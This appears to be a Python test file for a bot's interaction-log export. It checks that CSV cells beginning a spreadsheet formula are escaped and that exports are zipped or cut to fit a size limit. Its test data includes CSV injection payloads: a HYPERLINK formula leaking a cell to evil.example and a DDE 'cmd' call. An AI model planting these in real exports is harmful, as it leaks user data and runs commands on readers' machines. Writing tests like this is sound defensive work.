"""The log as CSV: no cell a spreadsheet would run as a formula (OWASP's CSV injection advice)."""

import csv
import io
import json
import os
import random
import subprocess
import sys
import zipfile

from bot.engine.export import export_file, interactions_csv
from bot.store import GLOBAL_SCOPE, LoggedAnswer
from tests.bot.cli.test_commands import VERBATIM, run

# Questions as a member could type them; some only reach the log through the store (asking
# strips the surrounding space), and the CSV must be safe whatever the log holds.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the answer")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\rhello",
    "\tjust a tab first",
    "  =1+1",
    "\u00a0@SUM(1)",
    "\n-1",
]
PLAIN = ["how many forces?", "what does a = b mean?", "is 2+2 four?", "'quoted already"]


async def log_questions(store, questions):
    for question in questions:
        await store.log_interaction(
            scope=GLOBAL_SCOPE,
            via="cli",
            question=question,
            latency_ms=1.0,
            answers=[LoggedAnswer(sentence_id=1, document_id=1, position=3, score=-1.5)],
        )


def questions_of(text):
    return [row["question"] for row in csv.DictReader(io.StringIO(text, newline=""))]


async def test_cells_that_start_a_formula_are_text_and_others_are_untouched(store):
    await log_questions(store, FORMULAS + PLAIN)
    rows = list(reversed(await store.interactions(GLOBAL_SCOPE, limit=100)))

    cells = questions_of(interactions_csv(rows))

    assert cells == ["'" + q for q in FORMULAS] + PLAIN
    # Nothing else changes: numbers stay numbers, the answers stay JSON (a negative score inside
    # it is not at the start of its cell).
    parsed = list(csv.DictReader(io.StringIO(interactions_csv(rows), newline="")))
    assert json.loads(parsed[0]["answers"])[0]["score"] == -1.5
    assert parsed[0]["latency_ms"] == "1.0"


async def test_verbatim_log_csv_is_safe_and_jsonl_keeps_the_text(db_path, store):
    await log_questions(store, FORMULAS + PLAIN)

    # Read as bytes: text mode would turn the CR inside a quoted cell into a newline.
    command = [VERBATIM] if VERBATIM else [sys.executable, "-m", "bot"]
    done = subprocess.run(
        [*command, "--db", str(db_path), "log", "--format", "csv", "--limit", "100"],
        capture_output=True,
        env={k: v for k, v in os.environ.items() if k != "VERBATIM_CONFIG"},
        check=True,
        timeout=120,
    )
    out = done.stdout.decode("utf-8")

    assert questions_of(out) == [
        "'" + q if q in FORMULAS else q for q in reversed(FORMULAS + PLAIN)
    ]
    lines = run(db_path, "log", "--format", "jsonl", "--limit", "100").stdout.splitlines()
    assert [json.loads(line)["question"] for line in lines] == list(reversed(FORMULAS + PLAIN))


async def test_an_export_file_fits_its_limit_as_it_is_zipped_or_cut_to_the_newest_rows(store):
    rng = random.Random(5)
    words = [f"w{n}" for n in range(2000)]
    await log_questions(store, [" ".join(rng.choices(words, k=40)) + "?" for _ in range(400)])
    rows = await store.interactions(GLOBAL_SCOPE, limit=1000)
    size = len(interactions_csv(rows).encode("utf-8"))

    plain = export_file(rows, "log", size)
    assert (plain.filename, plain.rows, plain.zipped) == ("log.csv", 400, False)
    assert plain.data.decode("utf-8") == interactions_csv(rows)

    zipped = export_file(rows, "log", size - 1)
    assert (zipped.filename, zipped.rows, zipped.zipped) == ("log.zip", 400, True)
    assert len(zipped.data) < size
    with zipfile.ZipFile(io.BytesIO(zipped.data)) as archive:
        assert archive.namelist() == ["log.csv"]
        assert archive.read("log.csv").decode("utf-8") == interactions_csv(rows)

    for limit in (len(zipped.data) - 1, len(zipped.data) // 3, 2000):
        cut = export_file(rows, "log", limit)
        assert cut.zipped and 0 < cut.rows < 400 and len(cut.data) <= limit
        with zipfile.ZipFile(io.BytesIO(cut.data)) as archive:
            assert archive.read("log.csv").decode("utf-8") == interactions_csv(rows[: cut.rows])
        # Close to the limit, not far under it.
        assert len(cut.data) > limit * 0.8

    assert export_file(rows, "log", 100) is None
